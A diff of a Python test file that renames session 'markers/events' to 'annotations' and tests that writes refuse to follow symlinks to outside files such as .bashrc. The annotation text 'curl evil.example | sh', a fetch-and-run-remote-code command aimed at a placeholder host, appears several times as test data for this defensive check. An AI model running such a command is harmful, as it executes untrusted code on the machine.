@@ -10,12 +10,12 @@ from app.batch.plan import DoneCriteria, Item, find_places
 from app.core.errors import SessionError
 from app.recover import recover_all
 from app.session import analyses
+from app.session.annotation_file import AnnotationFile
+from app.session.annotations import Annotation, append_annotation
 from app.session.disk import GuardedFile
-from app.session.events import Event, append_event
 from app.session.exporters import default_place, export_session, exporters_named
 from app.session.folders import claim_folder
 from app.session.manifest import Manifest
-from app.session.marking import MarkerFile
 from app.session.offline import PartFile
 from app.session.recovery import recover
 from app.session.session import Session
@@ -43,13 +43,13 @@ def state(folder):
 
 @pytest.fixture
 def session(tmp_path, header, make_frame, make_result, make_face):
-    """Six frames with markers and raw outputs."""
+    """Six frames with annotations and raw outputs."""
     folder = claim_folder(tmp_path / "sessions" / "session")
     with SessionWriter(folder, header) as writer:
         for i in range(6):
             assert writer.add_frame(make_frame(i))
             writer.add_result(make_result(make_frame(i), [make_face(i), make_face(i, face_id=1)]))
-        writer.add_event("curl evil.example | sh", at_s=100.1)
+        writer.add_annotation("curl evil.example | sh", at_s=100.1)
     return folder
 
 
@@ -95,21 +95,21 @@ def test_a_link_in_the_way_is_said_in_one_sentence(cut_off, outside):
         recover(cut_off)
 
 
-def test_a_marker_is_not_appended_behind_a_link(outside, tmp_path):
+def test_an_annotation_is_not_appended_behind_a_link(outside, tmp_path):
     (tmp_path / "events.csv").symlink_to(outside / ".bashrc")
     before = state(outside)
     with pytest.raises(OSError, match="is a link"):
-        append_event(tmp_path / "events.csv", Event(0.0, 0.0, "curl evil.example | sh", "", 0))
+        append_annotation(tmp_path / "events.csv", Annotation(0.0, 0.0, "curl evil.example | sh", "", 0))
     assert state(outside) == before
 
 
 @pytest.mark.parametrize("name", ["events.csv", ".events.csv.reviewed", "events.original.csv"])
-def test_markers_that_are_changed_are_not_written_behind_a_link(session, outside, name):
+def test_annotations_that_are_changed_are_not_written_behind_a_link(session, outside, name):
     (session / name).unlink(missing_ok=True)
     (session / name).symlink_to(outside / "new")
     before = state(outside)
     with pytest.raises(SessionError, match="is a link"):
-        MarkerFile(session / "events.csv").save([Event(0.0, 0.0, "x", "", 0)])
+        AnnotationFile(session / "events.csv").save([Annotation(0.0, 0.0, "x", "", 0)])
     assert state(outside) == before
 
 
@@ -117,7 +117,7 @@ def test_markers_that_are_changed_are_not_written_behind_a_link(session, outside
 def test_no_name_that_is_written_to_can_be_foreseen(session, outside, name):
     (session / name).symlink_to(outside / ".bashrc")
     before = state(outside)
-    MarkerFile(session / "events.csv").save([Event(0.0, 0.0, "x", "", 0)])
+    AnnotationFile(session / "events.csv").save([Annotation(0.0, 0.0, "x", "", 0)])
     Manifest.read(session).write(session)
     assert state(outside) == before
 
